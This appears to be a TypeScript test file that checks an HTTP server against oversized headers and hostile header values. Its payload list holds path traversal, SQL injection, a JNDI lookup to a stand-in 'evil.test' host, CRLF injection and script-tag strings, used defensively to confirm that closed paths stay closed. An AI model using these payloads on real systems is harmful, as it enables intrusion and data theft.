import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { expectClean } from '../harness/hostile.ts';
import { requestHead, sendRaw } from '../harness/raw-http.ts';
import { full } from './form.ts';
import { statusesAfter } from './pipelined.ts';
import { startTarget, type Target } from './target.ts';

let target: Target;
beforeAll(async () => {
  target = await startTarget();
});
afterEach(() => target.check());
afterAll(() => target.stop());

describe('more than a head may have', () => {
  it.each([
    ['101 lines', Array.from({ length: 101 }, (_, i) => `X-${i}: 1`)],
    ['1,500 short lines', Array.from({ length: 1_500 }, () => 'X:')],
    ['a line of 8 KiB', [`X: ${'a'.repeat(8_192)}`]],
    ['a name of 8 KiB', [`${'a'.repeat(8_192)}: x`]],
    ['a cookie of 16 KiB', [`Cookie: belfry=${'a'.repeat(16_384)}`]],
    ['8 KiB in many lines', Array.from({ length: 90 }, (_, i) => `X-${i}: ${'a'.repeat(100)}`)],
    ['40 KiB of lines', Array.from({ length: 10 }, (_, i) => `X-${i}: ${'a'.repeat(4_000)}`)],
  ])('%s: 431', async (_, lines) => {
    expect(await statusesAfter(target.port, requestHead('GET', '/healthz', lines))).toEqual([431]);
  });

  it('a target of 8 KiB: 431, a shorter one is looked at', async () => {
    expect(await statusesAfter(target.port, requestHead('GET', `/${'a'.repeat(9_000)}`))).toEqual([431]);
    const [status] = await statusesAfter(target.port, requestHead('GET', `/api/${'a'.repeat(6_000)}`));
    expect(status).toBe(404);
  });
});

describe('a header that says what is not so', () => {
  const names = [
    ...['Accept', 'Accept-Charset', 'Accept-Encoding', 'Accept-Language', 'Access-Control-Request-Headers'],
    ...[
      'Access-Control-Request-Method',
      'Authorization',
      'Cache-Control',
      'Connection',
      'Content-Disposition',
    ],
    ...[
      'Content-Encoding',
      'Content-Language',
      'Content-Location',
      'Content-Range',
      'Content-Type',
      'Cookie',
    ],
    ...['Date', 'DNT', 'Expect', 'Forwarded', 'From', 'Idempotency-Key', 'If-Match', 'If-Modified-Since'],
    ...[
      'If-None-Match',
      'If-Range',
      'If-Unmodified-Since',
      'Keep-Alive',
      'Last-Event-ID',
      'Max-Forwards',
      'Origin',
    ],
    ...['Pragma', 'Prefer', 'Proxy-Authorization', 'Proxy-Connection', 'Range', 'Referer', 'Sec-Fetch-Mode'],
    ...['Sec-Fetch-Site', 'Sec-WebSocket-Extensions', 'Sec-WebSocket-Key', 'Sec-WebSocket-Protocol'],
    ...['Sec-WebSocket-Version', 'TE', 'traceparent', 'Trailer', 'Upgrade', 'Upgrade-Insecure-Requests'],
    ...['User-Agent', 'Via', 'Warning', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto'],
    ...['X-Original-URL', 'X-Real-IP', 'X-Request-Id', 'X-Rewrite-URL', 'X-User', 'X-Username'],
    ...['__proto__', 'constructor', 'hasOwnProperty', 'toString'],
  ];
  const values = [
    ...['', ' ', ',', ';', '"', '%', '=', '*', '../../etc/passwd', "' or 1=1 --", '${jndi:ldap://evil.test}'],
    ...['{{7*7}}', '%0d%0aSet-Cookie:%20x=y', '<script>alert(1)</script>', '\xff\xfe', '\xe2\x80\xae', '-1'],
    ...['1e999', 'a'.repeat(4_000), '=;'.repeat(1_000), 'bytes=0-0,'.repeat(100), '127.0.0.1', 'admin'],
    ...[
      'Bearer ',
      'Bearer bfk_',
      'Basic YWRhOmFkYQ==',
      'chunked',
      'DELETE',
      'close, keep-alive',
      'websocket',
    ],
    ...['for=127.0.0.1;host=127.0.0.1;proto=https', 'gzip;q=1e999', 'text/html;level='.repeat(50)],
  ];
  /** Paths that nobody without a session may see. */
  const closed = ['/api/v1/inbox?view=all', '/api/v1/staff', '/api/v1/notifications'];

  it.each(names)('%s opens nothing, stays nowhere and breaks nothing', async (name) => {
    // The quick form throws every second value at each, the other half at the next, and asks one path for each.
    const offset = names.indexOf(name);
    const asked = values.flatMap((value, i) => {
      if (full) return closed.map((path) => [path, value] as const);
      return (i + offset) % 2 === 0 ? [[closed[i % closed.length] ?? '', value] as const] : [];
    });
    await Promise.all(
      asked.map(async ([path, value]) => {
        const lines = [`${name}: ${value}`, 'Connection: close'];
        const answer = await sendRaw(target.port, Buffer.from(requestHead('GET', path, lines), 'latin1'));
        // Without a session there is no way in; 400 and 417 are the parser's own.
        expect([[400, 401, 417], path, value]).toEqual([
          expect.arrayContaining([answer.status]),
          path,
          value,
        ]);
        expect(answer.headers['set-cookie']).toBeUndefined();
        expect(answer.text).not.toMatch(/<script>|evil\.test/);
        expectClean(answer.text);
      }),
    );
  });

  it('changes nothing of what someone with a session is answered', async () => {
    const get = (lines: readonly string[]) => {
      const always = [`Cookie: ${target.victim.cookie}`, ...lines, 'Connection: close'];
      return sendRaw(target.port, Buffer.from(requestHead('GET', '/api/v1/inbox', always), 'latin1'));
    };
    const plain = await get([]);
    expect(plain.status).toBe(200);
    // These say something of the request itself, or who is asking.
    const said = /^(authorization|content-length|cookie|expect|transfer-encoding|connection)$/i;
    for (const name of names.filter((each) => !said.test(each))) {
      const answer = await get([`${name}: ${values[names.indexOf(name) % values.length] ?? ''}`]);
      expect([name, answer.status, answer.body]).toEqual([name, 200, plain.body]);
    }
  });
});
